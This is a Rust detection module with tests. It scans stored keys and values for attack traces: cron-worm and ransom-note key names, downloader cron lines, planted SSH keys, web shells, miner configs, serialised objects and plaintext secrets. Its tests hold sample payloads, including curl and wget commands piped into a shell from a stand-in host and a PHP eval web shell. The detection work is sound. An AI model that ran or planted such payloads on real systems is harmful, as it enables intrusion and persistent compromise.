//! What the name of a key or the beginning of a value gives away.

/// A name that published attack scripts give their keys.
pub(crate) fn in_name(key: &[u8]) -> Option<&'static str> {
    let key = std::str::from_utf8(key).ok()?.to_ascii_lowercase();
    match key.as_str() {
        "backup1" | "backup2" | "backup3" | "backup4" => {
            Some("a key named like those of cron-line worms")
        }
        "crackit" => Some("a key named like those of SSH-key attacks"),
        "readme"
        | "warning"
        | "how_to_restore"
        | "how_to_recover"
        | "recover_your_data"
        | "your_data_is_encrypted"
        | "your_data_is_backed_up"
        | "meow" => Some("a key named like a ransom note"),
        _ => None,
    }
}

/// A payload that published attacks plant in values.
pub(crate) fn in_value(value: &[u8]) -> Option<&'static str> {
    let text = String::from_utf8_lossy(value).to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let downloads = has(&["curl ", "wget ", "cd1 ", "wd1 ", "/dev/tcp/", "base64 -d"]);
    if value.starts_with(b"\n") && downloads && text.lines().any(is_cron_line) {
        Some("a cron line that downloads a program")
    } else if has(&["ssh-rsa aaaa", "ssh-ed25519 aaaa", "ecdsa-sha2-nistp"])
        && value.starts_with(b"\n")
    {
        Some("an SSH key padded with line breaks")
    } else if downloads && has(&["| sh", "|sh", "| bash", "|bash", "/dev/tcp/"]) {
        Some("a download piped into a shell")
    } else if has(&["<?php"]) && has(&["eval(", "system(", "exec(", "passthru("]) {
        Some("a PHP web shell")
    } else if has(&["stratum+tcp://", "stratum+ssl://", "xmrig"]) {
        Some("the configuration of a coin miner")
    } else if value.starts_with(b"\x7fELF") {
        Some("a Linux program")
    } else {
        None
    }
}

/// Five fields of times, or `@reboot` and its kin.
fn is_cron_line(line: &str) -> bool {
    let line = line.trim();
    let is_time = |word: &str| {
        word.starts_with(['*', '0', '1', '2', '3', '4', '5', '6', '7', '8', '9'])
            && word.bytes().all(|byte| byte.is_ascii_digit() || b"*/,-".contains(&byte))
    };
    let words: Vec<&str> = line.split_whitespace().take(6).collect();
    ["@hourly", "@daily", "@reboot"].iter().any(|word| line.starts_with(word))
        || (words.len() == 6 && words.iter().take(5).all(|word| is_time(word)))
}

/// Starts like a pickle, a Java object or a PHP object: reading it back can run code.
pub(crate) fn is_serialised(value: &[u8]) -> bool {
    let pickle = matches!(value, [0x80, 2..=5, ..]);
    let java = value.starts_with(b"\xac\xed\x00\x05");
    // O:8:"stdClass":1:{
    let php = value.starts_with(b"O:") && value.get(2).is_some_and(u8::is_ascii_digit);
    pickle || java || php
}

/// Holds what looks like a secret or personal data in plain text.
pub(crate) fn is_sensitive(value: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(value) else { return false };
    let lower = text.to_ascii_lowercase();
    const NAMES: [&str; 8] = [
        "\"password\"",
        "\"passwd\"",
        "\"secret\"",
        "\"api_key\"",
        "\"ssn\"",
        "\"card_number\"",
        "\"cedula\"",
        "\"access_token\"",
    ];
    NAMES.iter().any(|name| lower.contains(name))
        || text.contains("-----BEGIN ")
        || text.split(|c: char| !(c.is_ascii_digit() || c == '-' || c == ' ')).any(is_card_number)
        || text.split(|c: char| c.is_whitespace() || "\"',;<>:".contains(c)).any(is_mail_address)
}

fn is_mail_address(word: &str) -> bool {
    let Some((name, host)) = word.split_once('@') else { return false };
    let plain = |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || ".-_+".contains(c));
    !name.is_empty() && plain(name) && plain(host) && host.contains('.') && !host.ends_with('.')
}

/// Sixteen digits with a valid check digit (ISO/IEC 7812-1 annex B).
fn is_card_number(text: &str) -> bool {
    let digits: Vec<u32> = text.chars().filter_map(|c| c.to_digit(10)).collect();
    let weigh = |(index, digit): (usize, &u32)| match (index % 2, digit * 2) {
        (0, doubled) if doubled > 9 => doubled - 9,
        (0, doubled) => doubled,
        _ => *digit,
    };
    let distinct = digits.iter().any(|digit| Some(digit) != digits.first());
    digits.len() == 16 && distinct && digits.iter().enumerate().map(weigh).sum::<u32>() % 10 == 0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn planted_payloads_are_seen() {
        let cron = b"\n\n*/2 * * * * root curl -fsSL http://x/init.sh | sh\n\n";
        assert_eq!(in_value(cron), Some("a cron line that downloads a program"));
        assert!(in_value(b"\n\n\nssh-rsa AAAAB3NzaC1yc2E root@kali\n\n").is_some());
        assert!(in_value(b"wget -q http://x/y.sh -O- | bash").is_some());
        assert!(in_value(b"<?php @eval($_POST['x']);?>").is_some());
        assert_eq!(in_value(b"{\"cart\": [1, 2, 3]}"), None);
        assert_eq!(in_value(b"see https://example.com/curl for help"), None);
        assert!(in_name(b"backup3").is_some() && in_name(b"Crackit").is_some());
        assert_eq!(in_name(b"session:1"), None);
    }

    #[test]
    fn serialised_objects_are_seen() {
        assert!(is_serialised(b"\x80\x04\x95"));
        assert!(is_serialised(b"\xac\xed\x00\x05sr"));
        assert!(is_serialised(b"O:8:\"stdClass\":0:{}"));
        assert!(!is_serialised(b"{\"a\":1}") && !is_serialised(b""));
    }

    #[test]
    fn personal_data_is_seen() {
        assert!(is_sensitive(b"{\"user\":\"ana@example.com\"}"));
        assert!(is_sensitive(b"card 4111 1111 1111 1111 ok"));
        assert!(is_sensitive(b"{\"password\":\"x\"}"));
        assert!(!is_sensitive(b"order 1234567890123456"));
        assert!(!is_sensitive(b"0000000000000000") && !is_sensitive(b"plain text"));
    }
}
